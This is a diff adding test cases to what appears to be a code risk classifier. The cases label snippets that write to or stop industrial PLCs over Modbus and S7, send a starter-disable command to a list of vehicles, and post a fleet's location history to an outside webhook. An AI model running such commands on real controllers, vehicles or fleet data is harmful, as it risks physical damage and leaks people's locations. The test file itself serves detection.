@@ -3486,6 +3486,34 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             "def run(parts=_P):\n    subprocess.run(' '.join([parts['verb'], *parts['flags']]), shell=True)",
             L,
         ),
+        # field devices: writes to PLCs and controllers on a plant network; a simulator on this machine
+        (
+            "from pymodbus.client import ModbusTcpClient\nc = ModbusTcpClient('10.40.2.11', port=502)\nc.connect()\n"
+            "for coil in range(8):\n    c.write_coil(coil, False, slave=1)",
+            H,
+        ),
+        ("import snap7\nplc = snap7.client.Client()\nplc.connect('172.16.10.5', 0, 1)\nplc.plc_stop()", H),
+        (
+            "from pymodbus.client import ModbusTcpClient\nc = ModbusTcpClient('127.0.0.1', port=5020)  # simulator\n"
+            "c.connect()\nc.write_register(1, 42, slave=1)",
+            M,
+        ),
+        (
+            "from pymodbus.client import ModbusTcpClient\nc = ModbusTcpClient('10.40.2.11')\nc.connect()\n"
+            "print(c.read_holding_registers(0, 10, slave=1).registers)",
+            S,
+        ),
+        # vehicles: remote commands and location histories
+        (
+            "import requests\nfor v in vehicles:\n    requests.post(f'{BASE}/vehicles/{v}/commands', "
+            "json={'type': 'STARTER_DISABLE'})",
+            H,
+        ),
+        (
+            "import requests\nr = requests.get('https://api.samsara.com/fleet/vehicles/locations/history')\n"
+            "requests.post('https://hooks.partner.example/catch', json=r.json())",
+            C,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
